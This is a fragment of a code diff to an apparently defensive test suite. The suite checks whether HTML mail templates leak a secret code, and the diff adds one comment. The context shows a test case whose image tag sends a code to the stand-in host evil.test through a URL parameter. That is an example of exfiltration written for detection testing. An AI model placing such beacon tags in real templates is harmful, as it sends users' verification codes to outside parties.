@@ -26,6 +26,7 @@ describe("a mail in HTML", () => {
     expect(findMisuse(html, secrets)).toBe("link");
   });
 
+  // Evidence: gives-code-away
   // Attack: a template that has mail programs, or a page between, send the code to someone else.
   it.each([
     ["an image", '<img src="https://evil.test/?c=AB12CD">'],
